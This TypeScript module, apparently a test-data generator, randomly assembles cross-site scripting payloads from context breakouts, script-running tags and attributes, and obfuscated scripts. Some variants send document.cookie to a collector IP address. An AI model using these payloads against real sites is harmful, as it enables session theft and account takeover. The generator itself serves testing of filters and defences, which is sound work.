// Cross-site scripting text, composed from the technique: something that breaks out of the
// context the value lands in (an attribute, a title, a textarea, a comment), an element or
// attribute that runs script, and a script that proves it ran or steals the cookie.
import type { Rng } from '../../rng.js';

const BREAKOUTS = ['', '', '">', "'>", '</title>', '</textarea>', '-->', '</script>'];
const COLLECTOR = '198.51.100.23';

function script(rng: Rng): string {
  return rng.pick([
    'alert(1)',
    'alert(document.domain)',
    'confirm(1)',
    'prompt(document.cookie)',
    'print()',
    'alert(String.fromCharCode(88,83,83))',
    `fetch('//${COLLECTOR}/c?'+document.cookie)`,
    `new Image().src='//${COLLECTOR}/?c='+document.cookie`,
    `eval(atob('${Buffer.from('alert(document.domain)').toString('base64')}'))`,
    "top['al'+'ert'](1)",
    'alert`1`',
  ]);
}

/** The same script with some letters as HTML character references, which an attribute decodes. */
function entities(js: string, rng: Rng): string {
  let out = '';
  for (const char of js) out += rng.chance(0.3) ? `&#${char.charCodeAt(0)};` : char;
  return out;
}

export function xssPayload(rng: Rng): string {
  const js = script(rng);
  const vector = rng.pick([
    `<script>${js}</script>`,
    `<img src=x onerror=${js}>`,
    `<svg onload=${js}>`,
    `<svg/onload=${js}>`,
    `<body onload=${js}>`,
    `<iframe src="javascript:${js}"></iframe>`,
    `<details open ontoggle=${js}>`,
    `<input autofocus onfocus=${js}>`,
    `<a href="javascript:${js}">click</a>`,
    `javascript:${js}`,
    `" onmouseover="${js}" x="`,
    `' autofocus onfocus='${entities(js, rng)}`,
    `<img src=x onerror="${entities(js, rng)}">`,
    `<scr<script>ipt>${js}</scr</script>ipt>`,
    `{{constructor.constructor('${js}')()}}`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  ]);
  return `${rng.pick(BREAKOUTS)}${vector}`;
}
